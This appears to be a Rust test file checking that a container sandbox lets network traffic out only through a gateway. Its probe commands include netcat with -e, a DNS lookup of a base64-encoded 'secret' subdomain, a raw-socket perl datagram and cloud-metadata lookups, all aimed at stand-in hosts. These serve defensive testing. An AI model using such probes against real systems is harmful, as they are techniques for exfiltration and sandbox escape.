//! What leaves a sandbox: connections to names, which come to the gateway, and nothing else of any protocol. Each probe
//! is shown to arrive from a container that has a network.

use std::net::{TcpListener, UdpSocket};

use choir_runtime::{ListenerKind, Notice, Stream};
use serde_json::json;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

use super::network::{add_address, packets};
use super::{Inside, inside, inside_of, quoted, unguarded};
use crate::rig::{PATIENCE, Rig, await_notice, sh};
use crate::root::lend;

/// The next call of the sandbox's egress port, and the head of its request.
async fn call(inside: &mut Inside) -> (Stream, String) {
    let mut stream = await_notice(&mut inside.notices, |notice| match notice {
        Notice::Inside {
            kind: ListenerKind::Egress,
            stream,
            ..
        } => Some(stream),
        _ => None,
    })
    .await;
    let mut head = Vec::new();
    while !head.ends_with(b"\r\n\r\n") {
        let byte = tokio::time::timeout(PATIENCE, stream.read_u8()).await;
        head.push(byte.expect("the request comes").unwrap());
    }
    (stream, String::from_utf8(head).unwrap())
}

/// D10: the resolver answers by itself; who connects is carried to the gateway under the name, both ways.
pub async fn a_name_leads_to_the_gateway_and_asking_for_it_to_nobody(rig: &Rig) {
    let mut inside = inside(rig).await;
    let answer = inside.ok("busybox nslookup c2VjcmV0.example.com").await;
    assert!(answer.contains("127.77."), "{answer}");
    for name in ["box", "metadata.google.internal", "host.containers.internal"] {
        inside.refused(&format!("busybox nslookup {name}")).await;
    }
    while let Ok(notice) = inside.notices.try_recv() {
        assert!(!matches!(notice, Notice::Inside { .. }), "a question left the sandbox");
    }
    let (runtime, generation) = (inside.runtime.clone(), inside.spec.generation.clone());
    let line = "printf hello | busybox timeout 10 busybox nc c2VjcmV0.example.com 5432";
    let client = tokio::spawn(async move { sh(&runtime, &generation, line).await });
    let (mut gateway, head) = call(&mut inside).await;
    assert!(
        head.starts_with("CONNECT c2vjcmv0.example.com:5432 HTTP/1.1\r\n"),
        "{head}"
    );
    gateway.write_all(b"HTTP/1.1 200 OK\r\n\r\n").await.unwrap();
    let mut hello = [0; 5];
    gateway.read_exact(&mut hello).await.unwrap();
    assert_eq!(&hello, b"hello");
    gateway.write_all(b"welcome").await.unwrap();
    drop(gateway);
    assert_eq!(client.await.unwrap(), (0, "welcome".to_owned()));
    inside.end().await;
}

/// In the documentation's block, on the loopback of the network that is the host's.
const OUTSIDE: &str = "192.0.2.1";

/// One port for each protocol that has any, all on `OUTSIDE`.
struct Outside {
    tcp: TcpListener,
    dns: UdpSocket,
    quic: UdpSocket,
}

impl Outside {
    fn open() -> Self {
        add_address(OUTSIDE);
        let tcp = TcpListener::bind((OUTSIDE, 443)).unwrap();
        tcp.set_nonblocking(true).unwrap();
        let datagrams = |port: u16| {
            let socket = UdpSocket::bind((OUTSIDE, port)).unwrap();
            socket.set_nonblocking(true).unwrap();
            socket
        };
        Self {
            tcp,
            dns: datagrams(53),
            quic: datagrams(443),
        }
    }

    /// Connections, questions and datagrams that came since the last time.
    fn arrivals(&self) -> [bool; 3] {
        let received = |socket: &UdpSocket| std::iter::from_fn(|| socket.recv(&mut [0; 2048]).ok()).count() > 0;
        let connected = std::iter::from_fn(|| self.tcp.accept().ok()).count() > 0;
        [connected, received(&self.dns), received(&self.quic)]
    }
}

/// Says of ICMP whether there was an echo; the other side tells of the rest.
const PROBE: &str = r#"
    busybox timeout 3 busybox nc -w 2 192.0.2.1 443 -e /bin/true
    busybox timeout 3 busybox nslookup c2VjcmV0.example.com 192.0.2.1
    perl -e 'socket(S, 2, 2, 0); send(S, "\xc0" . "x" x 1199, 0, pack("Sna4x8", 2, 443, "\xc0\x00\x02\x01"))'
    busybox timeout 3 busybox ping -c 1 -W 2 192.0.2.1 | grep -q "1 packets received" && echo echoed
    echo probed"#;

/// D10: no TCP to an address, no DNS of a server's, no QUIC and no ICMP, as a user or as root; and not a packet of it.
pub async fn no_protocol_leads_out_by_itself(rig: &Rig) {
    let outside = rig.service().within(Outside::open);
    let before = rig.service().within(packets);
    let spec = rig.spec();
    lend(&rig.volume(&spec.generation), "perl");
    let inside = inside_of(rig, spec).await;
    for probe in [PROBE.to_owned(), format!("sudo -n {}", quoted(PROBE))] {
        let told = inside.ok(&probe).await;
        assert!(told.contains("probed") && !told.contains("echoed"), "{told}");
    }
    inside.end().await;
    assert_eq!(outside.arrivals(), [false; 3]);
    assert_eq!(rig.service().within(packets), before);

    // Raw sockets of the host's network are for root of the host.
    let on_the_host = |c: &mut serde_json::Value| {
        c["netns"] = json!({"nsmode": "host"});
        c["userns"] = json!({"nsmode": "host"});
        c["privileged"] = json!(true);
    };
    let spec = rig.spec();
    lend(&rig.volume(&spec.generation), "perl");
    let control = unguarded(rig, &spec, on_the_host, PROBE).await;
    assert!(
        control.contains("echoed"),
        "with the host's network there is an echo: {control}"
    );
    assert_eq!(outside.arrivals(), [true; 3], "and everything else arrives: {control}");
    assert!(rig.service().within(packets) > before);
}
